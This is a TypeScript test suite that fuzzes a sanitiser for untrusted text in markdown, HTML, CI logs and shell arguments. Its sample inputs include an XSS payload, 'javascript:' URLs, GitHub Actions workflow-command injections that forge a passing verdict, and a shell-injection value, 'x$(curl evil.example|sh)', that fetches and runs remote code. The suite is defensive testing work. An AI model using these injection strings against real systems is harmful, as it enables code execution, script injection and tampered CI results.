import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { tokenForms } from '../../src/core/entrypoint.js';
import { basicAuthHeader } from '../../src/core/git.js';
import {
  defuse,
  htmlCode,
  htmlLink,
  htmlText,
  logLine,
  logLines,
  mdCode,
  mdFence,
  mdLink,
  mdText,
  plainLine,
  plural,
  safeUrl,
  shellWord,
  short,
  visible,
} from '../../src/core/untrusted.js';
import { codeSpanContent, liveHazards, liveMarkdown, tableCells } from '../attacks/rendered.js';
import { runnerCommands } from '../attacks/workflow-commands.js';

/** Strings rich in what breaks markdown, HTML and logs, mixed with anything at all. */
const nasty = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ maxLength: 60 }),
  fc
    .array(
      fc.constantFrom(
        '`',
        '``',
        '```',
        ' ',
        '\n',
        '\r',
        '\r\n',
        '\u2028',
        '\u0085',
        '\t',
        '\u001b[31m',
        '\u202e',
        '@admin',
        '@org/team',
        '#1337',
        'GH-1337',
        '<img src=x onerror=alert(1)>',
        '<!-- mergexo:v1 {} -->',
        '[x](https://evil.example)',
        '![i](https://evil.example/i.png)',
        'https://evil.example',
        'www.evil.example',
        'a@evil.example',
        '|',
        '\\',
        '*',
        '_',
        '~',
        '$',
        '&',
        '&lt;',
        '# ',
        '- ',
        '1. ',
        '> ',
        '    ',
        '::',
        '::set-output name=verdict::pass',
        '::add-mask::x',
        '::stop-commands::pwned',
        '##[set-output name=verdict;]pass',
        '%0A',
        'a',
        'é',
      ),
      { maxLength: 12 },
    )
    .map((parts) => parts.join('')),
);

const RUNS = { numRuns: 2000 };

describe('short', () => {
  it('abbreviates a commit to the 7 characters GitHub shows', () => {
    expect(short('0123456789abcdef0123456789abcdef01234567')).toBe('0123456');
  });
});

describe('visible', () => {
  it('draws line breaks and control characters instead of passing them on', () => {
    expect(visible('a\r\nb\nc\rd\u2028e\u0085f')).toBe('a⏎b⏎c⏎d⏎e⏎f');
    expect(visible('\u001b[31mred\u0000\u007f')).toBe('␛[31mred␀␡');
    expect(visible('a\u202eb')).toBe('a\\u{202e}b');
    expect(visible('tab\tkept')).toBe('tab\tkept');
  });
});

describe('mdCode', () => {
  it('renders back to exactly the text (line breaks drawn), whatever backticks and spaces it holds', () => {
    fc.assert(
      fc.property(nasty, (s) => {
        const span = mdCode(s);
        const content = codeSpanContent(span);
        expect(content).toBe(s === '' ? ' ' : visible(s));
        expect(span).not.toMatch(/[\r\n]/);
      }),
      RUNS,
    );
  });

  it('uses a fence longer than any backtick run inside, padded when the text starts or ends with one', () => {
    expect(mdCode('plain')).toBe('`plain`');
    expect(mdCode('a`b')).toBe('``a`b``');
    expect(mdCode('`lead')).toBe('`` `lead ``');
    expect(mdCode('a ``` b`')).toBe('```` a ``` b` ````');
    expect(mdCode(' both ')).toBe('`  both  `');
    expect(mdCode('  ')).toBe('`  `');
  });

  it('in a table cell escapes pipes, so the row keeps its cells and the span still shows the pipe', () => {
    fc.assert(
      fc.property(nasty, (s) => {
        const cells = tableCells(`| ${mdCode(s, { table: true })} | next |`);
        expect(cells).toHaveLength(2);
        expect(cells[1]).toBe('next');
        expect(codeSpanContent(cells[0] as string)).toBe(s === '' ? ' ' : visible(s));
      }),
      RUNS,
    );
  });
});

describe('mdText', () => {
  /** Undoes what markdown undoes: backslash escapes and the three entities. */
  const rendered = (md: string) =>
    md
      .replace(/\\([!-/:-@[-`{-~])/g, '$1')
      .replace(/&#32;/g, ' ')
      .replace(/&#9;/g, '\t')
      .replace(/&lt;/g, '<')
      .replace(/&gt;/g, '>')
      .replace(/&amp;/g, '&');

  it('reads as the text itself (mentions and links joined invisibly), on one line', () => {
    fc.assert(
      fc.property(nasty, (s) => {
        const md = mdText(s);
        expect(md).not.toMatch(/[\r\n\u2028\u0085]/);
        expect(rendered(md)).toBe(defuse(visible(s)));
      }),
      RUNS,
    );
  });

  it('leaves nothing live: no mention, HTML, link, autolink, reference, emphasis or table cell break', () => {
    fc.assert(
      fc.property(nasty, (s) => {
        const md = mdText(s);
        const live = liveMarkdown(md);
        expect(liveHazards(live)).toEqual([]);
        expect(live).not.toMatch(/[<>`*_~|$[\]]/);
        expect(live).not.toMatch(/@[A-Za-z0-9]/);
        expect(live).not.toMatch(/:\/\//);
        expect(tableCells(`| ${md} | next |`)).toHaveLength(2);
      }),
      RUNS,
    );
  });

  it('cannot start a block: heading, list, quote, indented code', () => {
    expect(mdText('# title')).toBe('\\# title');
    expect(mdText('- item')).toBe('\\- item');
    expect(mdText('+ item')).toBe('\\+ item');
    expect(mdText('12. item')).toBe('12\\. item');
    expect(mdText('> quote')).toBe('&gt; quote');
    expect(mdText('    code')).toBe('&#32;&#32;&#32;&#32;code');
  });

  it('defuses the classic payloads visibly unchanged', () => {
    expect(mdText('@admin')).toBe('@\u200dadmin');
    expect(mdText('[x](https://evil.example)')).toBe('\\[x\\](https:\u200d//evil.example)');
    expect(mdText('<img src=x>')).toBe('&lt;img src=x&gt;');
    expect(mdText('fixes #1337')).toBe('fixes #\u200d1337');
  });
});

describe('mdFence', () => {
  it('holds any text: no line of it closes the fence, and the block ends where mergexo ends it', () => {
    fc.assert(
      fc.property(fc.array(nasty, { maxLength: 5 }), (lines) => {
        const text = lines.join('\n');
        const block = mdFence(text);
        const after = `${block}\nafter @admin`;
        // everything between the fences is inert; what follows is live again
        expect(liveMarkdown(after).trim()).toBe('after @admin');
      }),
      RUNS,
    );
  });
});

describe('links', () => {
  it('only http(s) URLs, without credentials, encoded so they cannot end the link early', () => {
    expect(safeUrl('https://ci.example.test/runs/77')).toBe('https://ci.example.test/runs/77');
    expect(safeUrl('javascript:alert(1)')).toBeUndefined();
    expect(safeUrl('data:text/html,x')).toBeUndefined();
    expect(safeUrl('https://user:pw@example.test/')).toBeUndefined();
    expect(safeUrl('not a url')).toBeUndefined();
    expect(safeUrl(null)).toBeUndefined();
    expect(safeUrl('https://x.test/a)](https://evil.example)\'"<b>|')).toBe(
      'https://x.test/a%29%5D%28https://evil.example%29%27%22%3Cb%3E%7C',
    );
    expect(mdLink('details', 'https://x.test/(a)')).toBe('[details](https://x.test/%28a%29)');
    expect(mdLink('details', 'javascript:alert(1)')).toBe('');
    expect(htmlLink('#12', 'https://x.test/"><img src=x>')).toBe(
      '<a href="https://x.test/%22%3E%3Cimg%20src=x%3E">#12</a>',
    );
    expect(htmlLink('#12', 'javascript:alert(1)')).toBe('#12');
  });
});

describe('HTML', () => {
  it('escapes, keeps one line, and defuses mentions and links outside code', () => {
    fc.assert(
      fc.property(nasty, (s) => {
        const html = htmlText(s);
        expect(html).not.toMatch(/[<>"'\r\n]/);
        expect(html).not.toMatch(/@[A-Za-z0-9]/);
        expect(liveHazards(html)).toEqual([]);
        const code = htmlCode(s);
        if (s) expect(code.slice(6, -7)).not.toMatch(/[<>\r\n]/);
      }),
      RUNS,
    );
    expect(htmlCode('')).toBe('');
    expect(htmlCode('a<b>&"')).toBe('<code>a&lt;b&gt;&amp;&quot;</code>');
  });
});

describe('plainLine', () => {
  it('is one line, clipped', () => {
    expect(plainLine('a\nb')).toBe('a⏎b');
    expect(plainLine('x'.repeat(300))).toHaveLength(200);
    expect(plainLine(plainLine('x'.repeat(300)))).toBe(plainLine('x'.repeat(300)));
  });
});

describe('shellWord', () => {
  it('leaves plain branch names alone and single-quotes anything a shell would act on', () => {
    expect(shellWord('feature/x-1.2')).toBe('feature/x-1.2');
    expect(shellWord('x$(curl evil.example|sh)')).toBe("'x$(curl evil.example|sh)'");
    expect(shellWord("it's;rm")).toBe("'it'\\''s;rm'");
  });
});

describe('log lines', () => {
  it('never become a workflow command, whatever the value (the runner parses them like this)', () => {
    fc.assert(
      fc.property(nasty, nasty, (a, b) => {
        for (const line of [logLine(a), logLine(`${a}${b}`), `prefix ${logLine(b)}`, logLines(`${a}\n${b}`)]) {
          expect(runnerCommands(line)).toEqual([]);
        }
      }),
      RUNS,
    );
  });

  it('reads the same: only line breaks and controls are drawn, and `::`/`##[` get an invisible break', () => {
    expect(logLine('::set-output name=verdict::pass')).toBe(':\u200b:set-output name=verdict::pass');
    expect(logLine('  ::error::x')).toBe('  :\u200b:error::x');
    expect(logLine('x ##[add-mask]y')).toBe('x #\u200b#[add-mask]y');
    expect(logLine('a\n::stop-commands::pwned')).toBe('a⏎::stop-commands::pwned');
    expect(logLine('PR #3: ci_failed')).toBe('PR #3: ci_failed');
    expect(logLines('one\ntwo')).toBe('one\ntwo');
  });
});

describe('token forms', () => {
  it('covers the token and every base64 spelling an auth header carries, git’s among them', () => {
    const forms = tokenForms('ghs_secret');
    const b64 = (s: string) => Buffer.from(s).toString('base64');
    expect(forms).toEqual(
      expect.arrayContaining([
        'ghs_secret',
        b64('x-access-token:ghs_secret'),
        b64('ghs_secret'),
        b64(':ghs_secret'),
        b64('ghs_secret:'),
      ]),
    );
    expect(forms).toContain(basicAuthHeader('ghs_secret').replace(/^AUTHORIZATION: basic /, ''));
    expect(tokenForms('')).toEqual([]);
  });
});

describe('plural', () => {
  it('counts in English, with an irregular plural when given', () => {
    expect(plural(1, 'path')).toBe('1 path');
    expect(plural(0, 'path')).toBe('0 paths');
    expect(plural(2, 'PR')).toBe('2 PRs');
    expect(plural(3, 'match', 'matches')).toBe('3 matches');
  });
});
